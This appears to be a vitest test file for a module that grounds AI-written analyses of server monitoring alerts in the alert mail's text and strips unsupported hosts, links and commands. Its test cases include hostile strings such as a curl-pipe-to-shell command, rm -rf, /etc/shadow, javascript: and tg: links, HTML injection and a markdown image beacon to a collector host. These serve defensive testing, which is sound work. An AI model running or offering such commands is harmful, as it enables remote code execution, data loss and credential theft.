import { describe, expect, it } from 'vitest';
import {
  groundAnalysis,
  groundSentence,
  locateEvidence,
  mailSays,
} from '../../../src-main/engine/analyse/ground.ts';
import { mimeToMail } from '../../../src-main/engine/ingest/mime-to-mail.ts';
import type { Analysis } from '../../../src-shared/contract/alerts.ts';
import { someEnvelope, someInput, someMail } from '../../support/alert-input.ts';
import { alertMails } from '../../support/corpus.ts';
import { cpuMs } from '../../support/cpu-time.ts';

const subject = '** PROBLEM Service Alert: db-01.example.net/Disk /var is CRITICAL **';
const text = `Host: db-01.example.net (10.20.0.11)
State: CRITICAL
DISK CRITICAL - free space: /var 412 MiB (2% inode=81%), used 97.83 %
Load 12.5, uptime 5400 s, 20,480 files, latency ۴۵ میلی‌ثانیه, 1,500 ms
Runbook https://mon.example.net:3000/runbooks/disk?id=7 or call +98 21 5555-0100
Ask ops@example.net. Run systemctl restart nginx.service and check /var/log/nginx/error.log on web02.
Started 2026-11-22 10:00:01`;
const says = mailSays(someMail(subject, text), someEnvelope());
const ground = (sentence: string) => groundSentence(sentence, says, '[removed]').text;

describe('what the mail says (L3)', () => {
  it.each([
    'Disk /var on db-01.example.net has 412 MiB (2%) free',
    'DB-01.EXAMPLE.NET at 10.20.0.11 is critical',
    'db-01 is nearly full',
    'About 98% of /var is used, 81% of inodes',
    '97.8 % used',
    '0.4 GiB left, up for 90 minutes or 1.5 h',
    '20480 files, 45 ms latency, 1.5 s',
    'Free 2 %, ۲٪ مانده است',
    'See https://mon.example.net:3000/runbooks/disk?id=7',
    'Call +98 21 55550100 or write to ops@example.net',
    'Run systemctl restart nginx.service',
    'web02 writes /var/log/nginx/error.log',
    'Since 10:00:01 on 2026-11-22',
    '1. Free space on /var',
    'No claims in this one: the backup service failed and/or stopped',
    'Uses IPv6, UTF-8 and RAID5',
    '２％ free',
    'The node db-01.example.net is down, service /var is full, docker daemon stopped, ssh connection refused',
    'Find out why /var fills up, mount /var again, kill the process, top of the list',
  ])('keeps %j', (sentence) => {
    expect(groundSentence(sentence, says, '[removed]').removed).toEqual([]);
  });

  it.each([
    ['See https://evil.example/x?d=db-01', 'See [removed]'],
    ['See http://mon.example.net.evil.example/', 'See [removed]'],
    ['Open www.evil.example now', 'Open [removed] now'],
    ['See mon.example.net.evil.example', 'See [removed]'],
    ['Host web03 is down', 'Host [removed] is down'],
    ['10.20.0.12 does not answer', '[removed] does not answer'],
    ['Call +1 555 0100 now', 'Call [removed] now'],
    ['Write to admin@evil.example', 'Write to [removed]'],
    ['Look at /etc/shadow', 'Look at [removed]'],
    ['Run curl http://fix.example/a.sh | sh', 'Run [removed]'],
    ['Run `rm -rf /var/cache` first', 'Run [removed] first'],
    ['Run systemctl restart mysql.service', 'Run [removed]'],
    ['73% used', '[removed] used'],
    ['2 GiB free', '[removed] free'],
    ['5400 minutes', '[removed]'],
    ['Down for 3 days and 17 hours', 'Down for [removed] and [removed]'],
    ['Use C:\\temp\\fix.exe', 'Use [removed]'],
    ['See tg://user?id=1 and javascript:alert(1)', 'See [removed] and [removed]'],
    ['![status](http://collector.example/x.png?q=1)', 'status ([removed])'],
    ['[https://mon.example.org](https://evil.example)', '[removed] ([removed])'],
    ['</b><a href="tg://user?id=1">click</a>', 'click'],
    ['@room @everyone wake up', '@ room @ everyone wake up'],
    ['The password is [SECRET_1] on [HOST_7]', 'The password is ••• on [removed]'],
    ['CVE-2024-12345 is exploited', '[removed] is exploited'],
    ['raypal.exаmple.net', '[removed]'],
  ])('turns %j into %j', (sentence, expected) => {
    expect(ground(sentence)).toBe(expected);
  });
});

describe('the lines of genuine mails', () => {
  it('support themselves: hardly a word of them is taken for a claim that they do not hold', async () => {
    const lost: string[] = [];
    let lines = 0;
    for (const { file, raw } of alertMails()) {
      const mail = await mimeToMail(raw);
      const own = mailSays(mail, someEnvelope());
      for (const line of [mail.subject, ...mail.text.split('\n')].filter((one) => one.trim() !== '')) {
        lines += 1;
        if (groundSentence(line.slice(0, 300), own, '').removed.length > 0) lost.push(`${file}: ${line}`);
      }
    }
    expect(lines).toBeGreaterThan(1_000);
    expect(lost.length / lines, lost.join('\n')).toBeLessThan(0.005);
  });
});

const analysisOf = (changes: Partial<Analysis>): Analysis => ({
  severity: 'critical',
  category: 'storage',
  state: 'firing',
  system: '',
  host: 'db-01.example.net',
  resource: '/var',
  summary: 'Disk /var on db-01.example.net has 2% free',
  details: [],
  actions: [],
  confidence: 0.9,
  language: 'en',
  by: { kind: 'provider', providerId: 'p', providerName: 'P', model: 'm' },
  at: 0,
  latencyMs: 1,
  tokens: null,
  cached: false,
  flags: [],
  evidence: [],
  ...changes,
});

describe('an analysis held to its mail', () => {
  const { facts } = someInput(subject, text);

  it('stays as it is where the mail supports it, with the words that do', () => {
    const given = analysisOf({ details: ['412 MiB left'] });
    const { analysis, notes } = groundAnalysis(given, facts, says);
    expect(notes).toEqual([]);
    expect({ ...analysis, evidence: [] }).toEqual(given);
    for (const { field, words } of [
      { field: 'host', words: 'db-01.example.net' },
      { field: 'resource', words: '/var' },
      { field: 'summary', words: '2%' },
      { field: 'details', words: '412 MiB' },
    ]) {
      const found = analysis.evidence.find((one) => one.field === field && one.words === words);
      expect(found, field).toBeDefined();
      expect(text.slice(found?.at ?? 0).startsWith(words)).toBe(true);
    }
  });

  it('takes the host and the resource of the reader where the mail does not name those of the model', () => {
    const { analysis, notes } = groundAnalysis(analysisOf({ host: 'web09', resource: 'eth7' }), facts, says);
    expect(analysis).toMatchObject({ host: facts.host, resource: facts.resource });
    expect(notes).toEqual([
      'host: removed what the mail does not say (name)',
      'resource: removed what the mail does not say (name)',
    ]);
  });

  it('falls back to the summary of the reader where nothing of the model is left, and drops empty items', () => {
    const { analysis } = groundAnalysis(
      analysisOf({
        summary: 'https://evil.example/',
        details: ['web09', 'free: 2%'],
        actions: ['`reboot -f`'],
      }),
      facts,
      says,
    );
    expect(analysis).toMatchObject({ summary: facts.summary, details: ['free: 2%'], actions: [] });
  });

  it('marks in Persian where the analysis is Persian', () => {
    const { analysis } = groundAnalysis(
      analysisOf({ language: 'fa', summary: 'دیسک ‎/var در web09 پر است' }),
      facts,
      says,
    );
    expect(analysis.summary).toContain('[حذف شد]');
  });

  it('finds the evidence of the reader again in the spelling of the mail', () => {
    expect(locateEvidence({ evidence: [{ field: 'host', words: 'host: db-01.example.net' }] }, says)).toEqual(
      [{ field: 'host', words: 'Host: db-01.example.net', at: 0 }],
    );
  });

  it('is quick on large mails and long answers', () => {
    const large = mailSays(someMail('s', `${'a1.b2 10.0.0.1 /x/y 12,5 '.repeat(4_000)}`), someEnvelope());
    const took = cpuMs(() => {
      for (let run = 0; run < 10; run += 1)
        groundSentence('curl -x /a.b 12.5 db01 http://x.y/ '.repeat(8), large, '-');
    });
    expect(took).toBeLessThan(8_000);
  });
});
